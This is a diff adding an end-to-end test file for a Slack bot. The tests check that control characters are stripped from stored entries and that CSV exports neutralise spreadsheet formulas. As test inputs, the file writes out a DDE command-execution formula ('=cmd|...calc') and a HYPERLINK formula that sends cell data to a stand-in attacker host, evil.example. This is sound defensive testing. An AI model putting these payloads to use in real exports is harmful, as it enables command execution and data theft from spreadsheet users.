@@ -1,0 +1,94 @@
+"""Integrity end to end: nothing stale posted, nothing left behind, events in any order, no text
+lost to the form, and exports that a spreadsheet cannot execute."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+from pathlib import Path
+from typing import Any
+
+from bot.runtime import Runtime
+from fakeslack.driver import SlackDriver
+from fakeslack.server import FakeSlack
+from storage.db import Database
+from tests.e2e.conftest import ALICE, BOB, FakeClock, ROOT, channel_id, run_cli, settle
+from tests.e2e.test_rituals import MONDAY_0800_UTC, install, leaders_ritual, tick
+from tests.e2e.test_tried import entries, form
+
+
+async def prompt_thread(bot: Runtime, slack: FakeSlack, clock: FakeClock) -> tuple[str, str]:
+    """The Leaders ritual asks on Monday; return #leaders and its prompt's ts."""
+    await install(bot, leaders_ritual(slack))
+    await tick(bot, clock, MONDAY_0800_UTC)
+    leaders = channel_id(slack, "leaders")
+    return leaders, slack.messages(leaders)[0].ts
+
+
+# ---- exports and control characters (formula injection, NUL bytes) ----------------------
+
+
+CONTROL = {chr(c) for c in range(32)} - {"\n", "\t"}
+
+
+async def test_control_characters_are_never_stored_from_any_capture_path(
+    bot: Runtime, driver: SlackDriver, slack: FakeSlack, clock: FakeClock, store: Database
+) -> None:
+    """NUL and other C0 controls (not newline or tab) are stripped from replies, /tried and the form."""
+    leaders, prompt = await prompt_thread(bot, slack, clock)
+    await driver.post_message(
+        ALICE, leaders, "Claude: thread\x00 reply\x1b[31m red\x07\nsecond line", thread_ts=prompt
+    )
+    await driver.slash_command(ALICE, "Gemini: slash\x00 command\x08 entry")
+    await driver.slash_command(ALICE, "")
+    await settle(bot)
+    await driver.view_submission(
+        ALICE,
+        driver.last_view(ALICE, "experiment_form"),
+        form(tool="Cur\x00sor", summary="form\x01 entry\r\n\tindented", surprise="a\x00b"),
+    )
+    await settle(bot)
+    stored = await entries(store)
+    assert len(stored) == 3
+    for exp in stored:
+        for value in (exp.tool or "", exp.work, exp.summary, exp.surprise, exp.failure):
+            assert not CONTROL & set(value), repr(value)
+    summaries = sorted(exp.summary for exp in stored)
+    assert any("thread reply[31m red\nsecond line" in s for s in summaries), summaries
+    assert any("slash command entry" in s for s in summaries), summaries
+    assert any(s == "form entry\n\tindented" for s in summaries), summaries
+
+
+async def test_csv_export_neutralises_formulas(
+    bot: Runtime, driver: SlackDriver, store: Database, database_url: str, tmp_path: Path
+) -> None:
+    """Cells starting with = + - @ tab or CR get a leading quote (OWASP), and every field is quoted."""
+    await driver.slash_command(ALICE, "")
+    await settle(bot)
+    await driver.view_submission(
+        ALICE,
+        driver.last_view(ALICE, "experiment_form"),
+        form(
+            tool="=cmd|' /C calc'!A0",
+            work="+1+1",
+            summary='=HYPERLINK("http://evil.example/?d="&A1,"click")',
+            surprise="@SUM(1,2)",
+            failure="-2+3",
+        ),
+    )
+    await settle(bot)
+    env = {"PATH": "/usr/bin:/bin", "PYTHONPATH": str(ROOT), "DATABASE_URL": database_url}
+    code, out, err = await run_cli(env, tmp_path, "export", "--format", "csv")
+    assert code == 0, err
+    [row] = list(csv.DictReader(io.StringIO(out)))
+    for value in row.values():
+        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
+    assert row["summary"] == "'" + '=HYPERLINK("http://evil.example/?d="&A1,"click")'
+    assert row["work"] == "'+1+1"
+    assert row["surprise"] == "'@SUM(1,2)"
+    assert row["failure"] == "'-2+3"
+    assert row["tool"].startswith("'=")
+    assert all(line.startswith('"') for line in out.splitlines())  # every field quoted
+    _, as_json, _ = await run_cli(env, tmp_path, "export", "--format", "json")
+    assert json.loads(as_json)[0]["work"] == "+1+1"  # JSON is data, not a spreadsheet: unchanged
